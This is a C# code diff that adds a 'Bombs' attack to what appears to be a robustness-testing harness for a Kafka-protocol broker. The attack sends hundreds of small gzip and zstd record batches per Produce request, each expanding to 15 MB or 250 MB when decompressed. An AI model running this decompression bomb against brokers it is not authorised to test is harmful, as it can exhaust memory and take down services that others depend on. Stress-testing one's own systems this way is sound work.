@@ -1,5 +1,8 @@
+using System.Collections.Concurrent;
 using CrashStreams.Broker.Attacks.Wire;
 using CrashStreams.Protocol.Messages;
+using CrashStreams.Protocol.Records;
+using CrashStreams.Protocol.Wire;
 
 namespace CrashStreams.Broker.Attacks.Attacks;
 
@@ -107,6 +110,43 @@ internal sealed class SlowPatterns : Attack
                 SubscribedTopicRegex = pattern,
                 TopicPartitions = [],
             }, stop: stop);
+    }
+}
+
+/// <summary>Batches of a few kilobytes that become as much as a topic takes, hundreds in a request.</summary>
+internal sealed class Bombs(int batches = 200) : Attack
+{
+    private const int RecordBytes = 15_000_000; // 16 MiB is what a topic takes
+
+    public override string Name => "bombs";
+
+    public override string Description => $"Produce with {batches} gzip batches of {RecordBytes / 1_000_000} MB each when decompressed, over the widest topic; zstd is tried with 250 MB";
+
+    public override async Task RoundAsync(Target target, CancellationToken stop)
+    {
+        using var client = await AttackClient.ConnectAsync(target, stop);
+        foreach (var (codec, bytes) in new[] { (CompressionCodec.Gzip, RecordBytes), (CompressionCodec.Zstd, 250_000_000) })
+            await client.AskAsync<ProduceRequest, ProduceResponse>(Request(Batches.Of(codec, bytes), target.WidePartitions), version: 9, stop);
+    }
+
+    public ProduceRequest Request(byte[] batch, int partitions) => new()
+    {
+        Acks = -1,
+        TimeoutMs = 10_000,
+        TopicData = [new() { Name = Target.Wide, PartitionData = [.. Enumerable.Range(0, batches).Select(i => new ProduceRequest.PartitionProduceData { Index = i % partitions, Records = new RecordsField(batch) })] }],
+    };
+
+    /// <summary>Made once: that takes longer than to send them.</summary>
+    private static class Batches
+    {
+        private static readonly ConcurrentDictionary<(CompressionCodec, int), Lazy<byte[]>> s_made = new();
+
+        public static byte[] Of(CompressionCodec codec, int bytes) => s_made.GetOrAdd((codec, bytes), of => new Lazy<byte[]>(() =>
+        {
+            using var builder = new RecordBatchBuilder(new RecordBatchHeader { Codec = of.Item1 });
+            builder.Append(TimeProvider.System.GetUtcNow().ToUnixTimeMilliseconds(), "k"u8.ToArray(), new byte[of.Item2]);
+            return builder.Build().ToArray();
+        })).Value;
     }
 }
 
